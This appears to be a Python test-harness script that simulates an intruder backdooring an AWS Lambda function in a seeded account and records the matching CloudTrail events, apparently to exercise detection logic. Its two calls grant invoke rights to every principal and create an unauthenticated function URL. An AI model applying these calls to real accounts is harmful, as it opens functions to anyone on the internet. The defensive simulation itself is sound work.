"""On an account seeded by lambda.py (argv[1]: its output), lets everyone
invoke the clean function and gives it a URL without auth, the way an
intruder plants a backdoor. Writes the CloudTrail records AWS would have
written into argv[2]/records.json."""
import json
import sys

from common import Trail, client, emit

made = json.loads(sys.argv[1])
E = "us-east-1"
trail = Trail(made["account"])
lam = client("lambda", E)
name = made["clean"]
lam.add_permission(FunctionName=name, StatementId="backdoor", Action="lambda:InvokeFunction", Principal="*")
trail.record("AddPermission20150331v2", "lambda.amazonaws.com",
             {"functionName": name, "statementId": "backdoor", "action": "lambda:InvokeFunction",
              "principal": "*"},
             {"statement": json.dumps({"Sid": "backdoor", "Effect": "Allow", "Principal": "*"})})
lam.create_function_url_config(FunctionName=name, AuthType="NONE")
trail.record("CreateFunctionUrlConfig20211031", "lambda.amazonaws.com",
             {"functionName": name, "authType": "NONE"},
             {"functionUrl": "https://x.lambda-url.us-east-1.on.aws/", "authType": "NONE",
              "functionArn": f"arn:aws:lambda:{E}:{made['account']}:function:{name}"})
trail.write(sys.argv[2])
emit({"changed": [f"lambda.function/{E}/{name}"]})
